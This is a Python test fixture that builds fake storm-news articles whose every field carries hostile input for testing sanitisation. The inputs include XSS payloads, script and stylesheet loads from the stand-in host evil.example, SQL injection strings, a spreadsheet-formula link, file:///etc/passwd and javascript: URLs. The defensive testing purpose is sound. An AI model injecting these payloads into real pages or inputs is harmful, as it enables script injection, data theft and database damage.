# ruff: noqa: E501 - vectors as they come
"""Articles whose every field tries to be more than text. Written for these tests."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

# the Big List of Naughty Strings; what no text file can hold is left to tests/read
NAUGHTY: list[str] = [
    s for s in json.loads((Path(__file__).parent / "vendor" / "blns.json").read_text("utf-8")) if s.strip()
]
TOGETHER = 10  # naughty strings in one article: each is in each of its fields
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<div style=background:url(//evil.example/x.png)>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<x onclick=alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "` onmouseover=`alert(1)",
    "x onmouseover=alert(1) y",
    "'; DROP TABLE stories; --",
    "1 OR 1=1 UNION SELECT name FROM sqlite_master",
]
ODD = [
    '=HYPERLINK("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\u202egnp.exe\u202c",
    "\u2066abc\u2069",
    "a\u0000b\u0007c\u001b[31md",
    "Z\u0351\u032b\u0343a\u0334\u0317\u0350l\u0353g\u0359o",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "הָיְתָהtestالصفحات",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufeffbom",
    "x" * 400,
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://good.example/" onclick="alert(1)',
    "https://good.example/<script>",
]
PLAIN = "The harbour office in Ilo said on Monday that nine boats had been lost in the storm. Mayor Humberto Quispe asked for tents. "


def hostile_articles() -> list[dict[str, Any]]:
    """Return articles of one story, with one vector or ten naughty strings in all fields, and one with all vectors."""
    found = [
        {
            "text": f"{PLAIN}Spokesman Rui {vector} Osei said: “{vector}”. The {vector} ministry denied it. Nine boats sank near {vector}.",
            "outlet": f"Daily {vector}",
            "title": f"Storm {vector} takes nine boats in Ilo",
            "author": f"Ana {vector}",
            "published": "2031-03-04",
            "url": ADDRESSES[number % len(ADDRESSES)],
        }
        for number, vector in enumerate([*MARKUP, *ODD])
    ]
    naughty = [NAUGHTY[n : n + TOGETHER] for n in range(0, len(NAUGHTY), TOGETHER)]
    found += [
        {
            "text": PLAIN + " ".join(f"Ana Torv of {s} said: “{s}”." for s in strings),
            "outlet": f"Daily {' | '.join(strings)}",
            "title": f"{' | '.join(strings)} takes nine boats in Ilo",
            "author": " | ".join(strings),
            "published": "2031-03-05",
            "url": f"https://good.example/{number}?{'&'.join(strings)}",
        }
        for number, strings in enumerate(naughty)
    ]
    whole = " ".join(f"“{v}”, said Ana Torv. " for v in [*MARKUP, *ODD])
    return [*found, {"text": PLAIN + whole, "outlet": "<b>All</b>", "title": "All of them", "published": "2031-03-05"}]
